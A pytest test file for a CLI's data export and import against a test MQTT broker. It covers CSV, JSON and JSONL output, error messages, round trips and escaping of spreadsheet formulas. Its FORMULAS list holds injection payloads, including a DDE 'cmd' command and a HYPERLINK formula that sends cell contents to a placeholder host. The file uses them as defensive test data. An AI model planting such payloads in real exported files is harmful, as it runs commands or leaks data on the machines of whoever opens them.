"""`boondock export` and `boondock import`, as users run them, against a real broker and statistician."""

import csv
import io
import json
import random
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from bus.messages import from_iso, to_iso
from cli import csv_import, export
from tests import command
from tests.broker import Mosquitto
from tests.client import Client
from tests.ports import free_port
from tests.statistician.asked import HOURS, START, statistician
from tests.statistician.rig import MINUTE

VOLTAGE, YIELD, CHARGE = "mppt.voltage", "mppt.yield_today", "mppt.charge_state"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("export")


@pytest.fixture(scope="module")
def broker(folder: Path) -> Iterator[Mosquitto]:
    with statistician(folder) as running:
        yield running


def boondock(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run the command as a user does."""
    places = {"SECRETS": folder / "secrets", "CONFIG": folder / "boondock.toml"}
    variables = {f"BOONDOCK_{name}": str(path) for name, path in places.items()}
    return command.boondock(folder, *arguments, **variables)


def exported(folder: Path, *arguments: str) -> str:
    """What an export writes; it must succeed."""
    done = boondock(folder, "export", *arguments)
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


RANGE = ("--start", "2026-11-20T06:00:00Z", "--end", "2026-11-20T12:00:00Z")


@pytest.mark.usefixtures("broker")
def test_states_of_several_entities_stand_side_by_side(folder: Path) -> None:
    head, *rows = table(
        exported(folder, "--entity", VOLTAGE, "--entity", CHARGE, "--period", "states", *RANGE)
    )
    assert head == ["ts", "mppt.voltage [V]", "mppt.charge_state"]
    assert [row[0] for row in rows] == [to_iso(START + n * MINUTE) for n in range(HOURS * 60)]
    assert rows[0] == [to_iso(START), "13.0", "bulk"]
    assert (rows[1][2], rows[40][2], rows[41][2]) == ("", "null", "absorption")


@pytest.mark.usefixtures("broker")
def test_hours_have_columns_with_units(folder: Path) -> None:
    head, *rows = table(exported(folder, "--entity", VOLTAGE, "--entity", YIELD, *RANGE))
    assert head[:4] == ["start", "end", "mppt.voltage mean [V]", "mppt.voltage min [V]"]
    assert {"mppt.voltage coverage", "mppt.yield_today change [Wh]", "mppt.yield_today last_reset"} < set(
        head
    )
    assert len(rows) == HOURS
    change = head.index("mppt.yield_today change [Wh]")
    assert [float(row[change]) for row in rows] == [59.0, 60.0, 60.0, 60.0, 60.0, 60.0]


@pytest.mark.usefixtures("broker")
def test_many_pages_arrive_whole_in_every_format(folder: Path) -> None:
    asked = ("--entity", VOLTAGE, "--entity", YIELD, "--period", "5minute", "--start", RANGE[1])
    lines = [json.loads(line) for line in exported(folder, *asked, "--format", "jsonl").splitlines()]
    whole = json.loads(exported(folder, *asked, "--format", "json"))
    assert whole["rows"] == lines
    assert whole["units"][VOLTAGE]["mean"] == "V"
    for entity in (VOLTAGE, YIELD):
        starts = [line["start"] for line in lines if line["entity"] == entity]
        assert len(starts) > 300, "more than a page holds"
        assert starts == [to_iso(START + n * 5 * MINUTE) for n in range(len(starts))]
    target = folder / "out.csv"
    assert exported(folder, *asked, "-o", str(target)) == ""
    assert len(table(target.read_text())) == 1 + len({line["start"] for line in lines})


@pytest.mark.usefixtures("broker")
@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        (("--entity", "mppt.volt"), "there is no entity 'mppt.volt'"),
        (("--entity", CHARGE), "mppt.charge_state has no statistics: it has no state class"),
        (("--entity", VOLTAGE, "--start", "yesterday"), "start: "),
        (("--entity", VOLTAGE, "-o", "no/such/folder/x.csv"), "No such file"),
    ],
)
def test_what_cannot_be_exported_is_said(folder: Path, arguments: tuple[str, ...], text: str) -> None:
    done = boondock(folder, "export", *arguments)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("boondock export: ")
    assert text in done.stderr
    assert len(done.stderr.splitlines()) == 1


def test_without_a_broker_or_a_statistician(tmp_path: Path) -> None:
    config = tmp_path / "boondock.toml"
    config.write_text(f"[broker]\nport = {free_port()}\n")
    done = boondock(tmp_path, "export", "--entity", VOLTAGE)
    assert (done.returncode, "no broker at 127.0.0.1" in done.stderr) == (1, True)
    broker = Mosquitto(tmp_path).start()
    config.write_text(f"[broker]\nport = {broker.port}\n")
    watcher = Client(broker.port, "camper/service/+")
    watcher.publish("camper/service/statistician", "offline", retain=True)
    done = boondock(tmp_path, "export", "--entity", VOLTAGE)
    assert (done.returncode, "no statistician is online" in done.stderr) == (1, True)
    assert watcher.latest("camper/service/cli") is None, "a client comes and goes unnoticed"
    watcher.close()
    broker.stop()


def test_states_come_back_through_an_import(broker: Mosquitto, folder: Path) -> None:
    """Late readings with their own time, stored when the command says so; the retained state stays."""
    file = folder / "states.csv"
    file.write_text(
        "ts,mppt.voltage [V],mppt.charge_state\n"
        "2026-11-19T10:00:30Z,11.5,\n2026-11-19T10:00:10.250Z,11.0,float\n2026-11-19T10:01:00Z,null,\n"
    )
    watcher = Client(broker.port, "camper/state/+")
    asked = ("--entity", VOLTAGE, "--entity", CHARGE, "--period", "states", "--end", "2026-11-20T00:00:00Z")
    dry = boondock(folder, "import", str(file), "--dry-run")
    assert (dry.returncode, dry.stdout) == (0, "4 states of 2 entities would be imported\n"), dry.stderr
    assert table(exported(folder, *asked))[1:] == []
    done = boondock(folder, "import", str(file))
    assert done.returncode == 0, done.stderr
    assert done.stdout == "4 states of 2 entities are on the statistician's disk\n"
    assert table(exported(folder, *asked))[1:] == [
        ["2026-11-19T10:00:10.250Z", "11.0", "float"],
        ["2026-11-19T10:00:30.000Z", "11.5", ""],
        ["2026-11-19T10:01:00.000Z", "null", ""],
    ]
    assert not any(m.retain for m in watcher.messages)
    watcher.close()


@pytest.mark.usefixtures("broker")
def test_a_text_that_is_a_formula_is_exported_as_text_and_comes_back(folder: Path) -> None:
    texts = ["=1+1", "@x", "-2+3", "-1.5", "null", "plain"]
    at = [f"2026-11-19T11:00:0{place}.000Z" for place in range(len(texts))]
    file = folder / "formulas.csv"
    cells = [f"'{text}" if text != "plain" else text for text in texts]
    file.write_text("ts,mppt.charge_state\n" + "".join(f"{t},{c}\n" for t, c in zip(at, cells, strict=True)))
    assert boondock(folder, "import", str(file)).returncode == 0
    asked = ("--entity", CHARGE, "--period", "states", "--start", at[0], "--end", "2026-11-19T12:00:00Z")
    lines = exported(folder, *asked, "--format", "jsonl").splitlines()
    assert [json.loads(line)["value"] for line in lines] == texts
    assert [row[1] for row in table(exported(folder, *asked))[1:]] == cells


@pytest.mark.usefixtures("broker")
def test_hours_come_back_through_an_import(folder: Path) -> None:
    file = folder / "hours.csv"
    file.write_text(
        "start,end,mppt.voltage mean [V],mppt.voltage max [V],mppt.voltage coverage\n"
        "2026-11-18T10:00:00Z,2026-11-18T11:00:00Z,12.5,13,0.5\n2026-11-18T11:00:00Z,,12.6,,\n"
    )
    asked = ("--entity", VOLTAGE, "--end", "2026-11-19T00:00:00Z", "--format", "jsonl")
    dry = boondock(folder, "import", str(file), "--dry-run")
    assert (dry.returncode, dry.stdout) == (0, "2 hourly rows of 1 entities would be imported\n"), dry.stderr
    assert exported(folder, *asked) == ""
    assert boondock(folder, "import", str(file)).stdout == "2 hourly rows of 1 entities were imported\n"
    first, second = (json.loads(line) for line in exported(folder, *asked).splitlines())
    assert (first["mean"], first["max"], first["coverage"]) == (12.5, 13.0, 0.5)
    assert (second["mean"], "max" in second) == (12.6, False)
    assert from_iso(second["start"]) == from_iso("2026-11-18T11:00:00Z")


@pytest.mark.usefixtures("broker")
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "the first column must be ts (states) or start"),
        ("time,mppt.voltage\n", "the first column must be ts (states) or start"),
        ("ts,voltage\n", "column 2 is 'voltage'; allowed are headings such as 'mppt.voltage [V]'"),
        ("ts,mppt.voltage mean\n", "column 2 is"),
        ("start,mppt.voltage\n", "'mppt.voltage mean [V]'"),
        ("ts\n", "has no column of an entity"),
        ("ts,mppt.volt\n2026-11-19T10:00:00Z,1\n", "there is no entity mppt.volt"),
        ("ts,mppt.voltage\n\nyesterday,1\n", "line 3: "),
        ("ts,mppt.voltage\n2020-01-01T00:00:00Z,1\n", "line 2: 2020-01-01T00:00:00Z is before this software"),
        ("start,mppt.voltage mean\n2026-11-18T10:00:00Z,warm\n", "line 2: mean is 'warm', no number"),
        ("start,mppt.voltage mean\n2026-11-18T10:30:00Z,1\n", "start"),
        ("start,mppt.voltage median\n2026-11-18T10:00:00Z,1\n", "there is no column 'median'"),
        ("start,mppt.voltage mean [V],mppt.voltage max [mV]\n", "several units: V, mV"),
    ],
)
def test_a_file_that_is_wrong_is_refused_whole(folder: Path, text: str, said: str) -> None:
    file = folder / "wrong.csv"
    file.write_text(text)
    done = boondock(folder, "import", str(file))
    assert (done.returncode, done.stdout) == (1, "")
    assert said in done.stderr
    assert len(done.stderr.splitlines()) == 1


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://x/"&A1)',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
]
FORMULAS += [
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+a",
    "\uff20x",
    " =1+1",
    "  @x",
    "off;=1+1",
    "off\t=1+1",
    "off\n=1+1",
    "a|-b",
    "'=1",
]
BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def through_csv(value: str) -> str:
    """What another program reads of the cell."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([export.cell_of(value)])
    ((cell,),) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    return cell


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_a_formula(text: str) -> None:
    cell = through_csv(text)
    for separator in ";|\t\r\n":
        for part in cell.split(separator):
            assert not part.lstrip(" ").startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")), cell
    assert cell[0] not in BEGINS
    assert export.value_of(cell) == text


@pytest.mark.parametrize(
    "text", ["off", "bulk", "10 %", "a-b", "-", "x=1", "2026-11-21", "Anna's", "'hello'", "ok; fine"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert through_csv(text) == (f"'{text}" if text == "-" else text)
    assert export.value_of(through_csv(text)) == text


@pytest.mark.parametrize("value", [-1.5, 0.0, -0.0, 13.25, 1e-7, -1e22, None])
def test_numbers_stay_numbers(value: float | None) -> None:
    cell = str(export.cell_of(value))
    assert not cell.startswith("'")
    assert export.value_of(cell) == value


@pytest.mark.parametrize(
    "text", ["-1.5", "12", "1e5", "null", "", "'", "''", "'12", "'null", "nan", "-inf", " 7 "]
)
def test_a_text_that_looks_like_something_else_stays_a_text(text: str) -> None:
    assert export.value_of(through_csv(text)) == text


def test_every_text_comes_back() -> None:
    dice = random.Random(7)  # noqa: S311 — the same texts in every run
    for _ in range(20_000):
        text = "".join(dice.choices("=+-@\t\r\n;|,' 1a\"null", k=dice.randrange(9)))
        assert export.value_of(through_csv(text)) == text


def test_a_unit_begins_no_formula_either(tmp_path: Path) -> None:
    """It stands in the heading, and whoever describes a device says it."""
    unit, file = "V;=1+1", tmp_path / "out.csv"
    source = export.Series("van.volt", {"value": unit}, iter([]))
    with file.open("w", encoding="utf-8", newline="") as opened:
        export._write_csv(opened, [source], iter([]), export.STATES)
    assert ";'=1+1" in file.read_text(encoding="utf-8")
    file.write_text(file.read_text(encoding="utf-8") + "2026-11-21T10:00:00Z,1\n", encoding="utf-8")
    assert [column.unit for column in csv_import.read_table(file).columns.values()] == [unit]


def test_a_foreign_file_keeps_its_apostrophes() -> None:
    assert export.value_of("'hello") == "'hello"
